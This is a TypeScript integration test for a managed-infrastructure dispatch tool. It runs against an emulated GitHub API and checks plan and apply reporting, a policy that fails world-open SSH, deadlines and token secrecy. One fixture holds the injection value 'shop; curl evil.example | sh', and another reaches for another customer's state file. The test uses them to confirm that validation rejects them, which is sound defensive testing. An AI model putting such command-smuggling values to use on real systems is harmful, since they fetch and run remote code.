// The managed-infrastructure pattern end to end, against a loopback emulator of the GitHub API: the
// customer's `paved dispatch` starts the provider's workflow; the provider's run (simulated here by
// the real `paved report prepare`, `plan convert`, `policy check` and `report plan|apply` commands)
// reports back on the customer's commit and pull request; the customer relays the verdict.

import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { runCli } from '../../src/cli/main';
import { dispatchStep } from '../../src/dispatch/steps';
import { ForgeEmulator, type FakeGithubRepo } from '../helpers/forge-emulator';

const CUSTOMER = 'acme/shop-infra';
const PROVIDER = 'provider/manager';
const PR_SHA = 'a'.repeat(40);
const MAIN_SHA = 'b'.repeat(40);
const EVIL_SHA = 'c'.repeat(40);
const SSH_SHA = 'd'.repeat(40);
const ROOT = path.resolve(__dirname, '..', '..');
const CUSTOMER_TOKEN = 'ghs_customer_side_token_1234';
const PROVIDER_TOKEN = 'ghs_provider_side_token_5678';

/** What `terraform show -json` would print for the provider's module, given the customer's variables. */
function nativePlan(vars: { app_name: string; instance_count: number; instance_type: string; ssh_from_anywhere: boolean }) {
  const tags = { owner: 'provider', 'cost-center': 'managed', app: vars.app_name };
  const changes: unknown[] = [];
  for (let i = 0; i < vars.instance_count; i++) {
    changes.push({
      address: `aws_instance.app[${i}]`, mode: 'managed', type: 'aws_instance', name: 'app', index: i,
      provider_name: 'registry.terraform.io/hashicorp/aws',
      change: { actions: ['create'], before: null, after: { instance_type: vars.instance_type, tags, tags_all: tags }, after_unknown: { id: true } },
    });
  }
  if (vars.ssh_from_anywhere) {
    changes.push({
      address: 'aws_security_group_rule.ssh', mode: 'managed', type: 'aws_security_group_rule', name: 'ssh',
      provider_name: 'registry.terraform.io/hashicorp/aws',
      change: { actions: ['create'], before: null, after: { type: 'ingress', from_port: 22, to_port: 22, protocol: 'tcp', cidr_blocks: ['0.0.0.0/0'] }, after_unknown: { id: true } },
    });
  }
  return { format_version: '1.2', terraform_version: '1.9.5', resource_changes: changes };
}

interface ProviderBehaviour {
  /** Leave the run in progress forever (the deadline scenario). */
  hang?: boolean;
}

describe('managed infrastructure: customer dispatch, provider plan/apply, feedback', () => {
  const forge = new ForgeEmulator();
  let customer: FakeGithubRepo;
  let provider: FakeGithubRepo;
  let work: string;
  const behaviour: ProviderBehaviour = {};
  const providerRuns: Array<Promise<void>> = [];

  /** The provider's workflow, as its jobs would run it, with the real commands. */
  async function providerPipeline(dispatch: { id: number; inputs: Record<string, string> }): Promise<void> {
    const run = {
      id: dispatch.id, name: `managed infra ${dispatch.inputs.correlation_id}`, event: 'workflow_dispatch', status: 'in_progress', conclusion: null as string | null,
      head_sha: 'f'.repeat(40), head_branch: 'main', created_at: new Date().toISOString(), updated_at: new Date().toISOString(),
      path: '.github/workflows/managed-infra.yml', html_url: `https://github.example/${PROVIDER}/actions/runs/${dispatch.id}`,
    };
    (provider.runs ??= []).push(run);
    if (behaviour.hang) return;
    const dir = fs.mkdtempSync(path.join(work, 'run-'));
    const env = { GITHUB_API_URL: forge.baseUrl, PAVED_CUSTOMER_TOKEN: CUSTOMER_TOKEN };
    const { repository, commit, environment, mode, pr } = dispatch.inputs;
    const target = ['--repository', repository, '--commit', commit, '--environment', environment, '--mode', mode, '--run-url', run.html_url, ...(pr ? ['--pr', pr] : [])];
    const finish = (conclusion: string) => Object.assign(run, { status: 'completed', conclusion, updated_at: new Date().toISOString() });

    const prepared = await runCli(['report', 'prepare', ...target, '--allowlist', path.join(__dirname, 'fixtures', 'allowlist.yml'), '--tfvars-out', 'vars.auto.tfvars.json', '--format', 'json'], { cwd: dir, env });
    if (prepared.exitCode !== 0) return void finish('failure');
    const vars = JSON.parse(fs.readFileSync(path.join(dir, 'vars.auto.tfvars.json'), 'utf8'));
    fs.writeFileSync(path.join(dir, 'native.json'), JSON.stringify(nativePlan(vars)));
    const converted = await runCli(['plan', 'convert', 'native.json', '-o', 'plan.json', '--env', environment], { cwd: dir, env: {} });
    if (converted.exitCode !== 0) throw new Error(converted.stderr);
    const policy = await runCli(['policy', 'check', '--policy', path.join(ROOT, 'policies'), '--namespace', 'paved.plan', 'plan.json', '--format', 'json'], { cwd: dir, env: {} });
    fs.writeFileSync(path.join(dir, 'policy.json'), policy.stdout);
    const reported = await runCli(['report', 'plan', ...target, '--plan', 'plan.json', '--policy', 'policy.json'], { cwd: dir, env });
    if (reported.exitCode !== 0) return void finish('failure');
    if (mode === 'apply') await runCli(['report', 'apply', ...target, '--plan', 'plan.json', '--outcome', 'success'], { cwd: dir, env });
    finish('success');
  }

  beforeAll(async () => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'paved-managed-'));
    await forge.start();
    customer = forge.github[CUSTOMER] = {
      id: 4242,
      commits: [PR_SHA, MAIN_SHA, EVIL_SHA, SSH_SHA],
      pullRequests: { 7: { state: 'open', head: { sha: PR_SHA } }, 8: { state: 'open', head: { sha: SSH_SHA } }, 9: { state: 'open', head: { sha: EVIL_SHA } } },
      compareStatus: { [`main...${MAIN_SHA}`]: 'identical', [`main...${PR_SHA}`]: 'ahead' },
      filesAt: {
        [PR_SHA]: { 'infra/variables.yml': 'version: 1\nvariables:\n  app_name: shop\n  instance_count: 2\nenvironments:\n  production:\n    instance_count: 3\n' },
        [MAIN_SHA]: { 'infra/variables.yml': 'version: 1\nvariables:\n  app_name: shop\n  instance_count: 2\n  ssh_from_anywhere: true\n' },
        [SSH_SHA]: { 'infra/variables.yml': 'version: 1\nvariables:\n  app_name: shop\n  ssh_from_anywhere: true\n' },
        [EVIL_SHA]: { 'infra/variables.yml': 'version: 1\nvariables:\n  app_name: "shop; curl evil.example | sh"\n  backend_key: other-customer/prod.tfstate\n' },
      },
    };
    provider = forge.github[PROVIDER] = { onDispatch: (d) => providerRuns.push(providerPipeline(d)) };
  });
  afterAll(() => forge.stop());
  beforeEach(() => {
    behaviour.hang = false;
  });

  const instantClock = () => {
    let now = Date.now();
    return { now: () => now, sleep: async (ms: number) => { await Promise.all(providerRuns); now += ms; } };
  };
  const dispatch = (inputs: { commit: string; environment: string; pr?: number; mode?: 'plan' | 'apply'; deadlineMs?: number }) =>
    dispatchStep(
      { providerRepository: PROVIDER, workflow: 'managed-infra.yml', ref: 'main', repository: CUSTOMER, commit: inputs.commit, environment: inputs.environment, mode: inputs.mode ?? (inputs.pr ? 'plan' : 'apply'), pr: inputs.pr, deadlineMs: inputs.deadlineMs ?? 600_000, pollMs: 5000 },
      { apiUrl: forge.baseUrl, token: PROVIDER_TOKEN },
      { apiUrl: forge.baseUrl, token: CUSTOMER_TOKEN },
      instantClock(),
    );
  const statuses = (sha: string) => customer.statuses?.[sha] ?? [];
  const prComments = (pr: number) => customer.comments?.[pr] ?? [];

  it('PR flow: plan, pending then success status, one sticky comment, nothing applied', async () => {
    const outcome = await dispatch({ commit: PR_SHA, environment: 'production', pr: 7 });
    expect(outcome.verdict).toBe('pass');
    expect(outcome.outputs.conclusion).toBe('success');
    // The dispatch carried identifiers only: no variable values, no variables file.
    const sent = provider.dispatches!.at(-1);
    expect(Object.keys(sent.inputs).sort()).toEqual(['commit', 'correlation_id', 'environment', 'mode', 'pr', 'repository']);
    expect(JSON.stringify(sent)).not.toContain('instance_count');
    const states = statuses(PR_SHA).filter((s) => s.context === 'paved/infra-plan (production)').map((s) => s.state);
    expect(states).toEqual(['success', 'pending']); // newest first
    expect(statuses(PR_SHA).some((s) => s.context.startsWith('paved/infra-apply'))).toBe(false);
    const comments = prComments(7);
    expect(comments).toHaveLength(1);
    expect(comments[0].body).toContain('Infrastructure plan for `production`: +3 ~0 ±0 -0');
    expect(comments[0].body).toContain('policy: **pass**');
    expect(outcome.outputs['provider-status']).toContain('plan +3 ~0 ±0 -0; policy pass');

    // A second run updates the same comment in place.
    await dispatch({ commit: PR_SHA, environment: 'production', pr: 7 });
    expect(prComments(7)).toHaveLength(1);
  });

  it('main flow: apply after a passing plan, success status with what was applied', async () => {
    customer.filesAt![MAIN_SHA]['infra/variables.yml'] = 'version: 1\nvariables:\n  app_name: shop\n  instance_count: 2\n';
    const outcome = await dispatch({ commit: MAIN_SHA, environment: 'staging' });
    expect(outcome.verdict).toBe('pass');
    const apply = statuses(MAIN_SHA).find((s) => s.context === 'paved/infra-apply (staging)');
    expect(apply).toMatchObject({ state: 'success', description: 'applied +2 ~0 ±0 -0 to staging' });
  });

  it('failing policy: failure status and a comment that explains, and the customer job fails', async () => {
    const outcome = await dispatch({ commit: SSH_SHA, environment: 'staging', pr: 8 });
    expect(outcome.verdict).toBe('fail');
    expect(outcome.exitCode).toBe(1);
    const plan = statuses(SSH_SHA).find((s) => s.context === 'paved/infra-plan (staging)');
    expect(plan.state).toBe('failure');
    expect(plan.description).toMatch(/policy fail: .*aws_security_group_rule\.ssh/);
    const comment = prComments(8)[0];
    expect(comment.body).toContain('**Policy failures**');
    expect(comment.body).toMatch(/aws_security_group_rule\.ssh.*22/);
  });

  it('forbidden variable or malicious value: rejected before any plan, with a status saying why', async () => {
    const before = new Set(fs.readdirSync(work));
    const outcome = await dispatch({ commit: EVIL_SHA, environment: 'staging', pr: 9 });
    expect(outcome.verdict).toBe('fail');
    const status = statuses(EVIL_SHA).find((s) => s.context === 'paved/infra-plan (staging)');
    expect(status.state).toBe('failure');
    expect(status.description).toMatch(/^rejected: /);
    const comment = prComments(9)[0].body;
    expect(comment).toContain('`backend_key`: forbidden variable');
    expect(comment).toContain('`app_name`: "shop; curl evil.example | sh" does not match');
    // The provider stopped at prepare: no variables file and no plan were written for this run.
    const runDirs = fs.readdirSync(work).filter((d) => !before.has(d)).map((d) => path.join(work, d));
    expect(runDirs).toHaveLength(1);
    expect(runDirs.flatMap((d) => fs.readdirSync(d))).toEqual([]);
  });

  it('refuses to apply a commit that is not on the default branch', async () => {
    const outcome = await dispatch({ commit: PR_SHA, environment: 'staging', mode: 'apply' });
    expect(outcome.verdict).toBe('fail');
    expect(statuses(PR_SHA).find((s) => s.context === 'paved/infra-apply (staging)').description).toContain('is not on main');
  });

  it('a customer that is not registered, or an environment it may not use, gets nothing', async () => {
    const outcome = await dispatch({ commit: PR_SHA, environment: 'dev', pr: 7 });
    expect(outcome.verdict).toBe('fail');
    expect(statuses(PR_SHA).find((s) => s.context === 'paved/infra-plan (dev)').description).toContain('environment dev is not enabled');
  });

  it('a run that exceeds the deadline fails the customer job with the run link', async () => {
    behaviour.hang = true;
    const outcome = await dispatch({ commit: PR_SHA, environment: 'staging', pr: 7, deadlineMs: 30_000 });
    expect(outcome.verdict).toBe('fail');
    expect(outcome.outputs.conclusion).toBe('timed_out');
    expect(outcome.title).toMatch(/did not finish within 30s: https:\/\/github\.example\/provider\/manager\/actions\/runs\/\d+/);
  });

  it('finds the run by correlation id where the API does not return run details', async () => {
    provider.returnRunDetails = false;
    try {
      const outcome = await dispatch({ commit: PR_SHA, environment: 'production', pr: 7 });
      expect(outcome.outputs['run-id']).toMatch(/^\d+$/);
      expect(outcome.verdict).toBe('pass');
    } finally {
      provider.returnRunDetails = undefined;
    }
  });

  it('never sends or prints the tokens', async () => {
    const all = JSON.stringify(customer) + JSON.stringify(provider.dispatches);
    expect(all).not.toContain(CUSTOMER_TOKEN);
    expect(all).not.toContain(PROVIDER_TOKEN);
    const authHeaders = forge.requests.map((r) => r.headers.authorization);
    expect(new Set(authHeaders)).toEqual(new Set([`Bearer ${CUSTOMER_TOKEN}`, `Bearer ${PROVIDER_TOKEN}`]));
  });
});
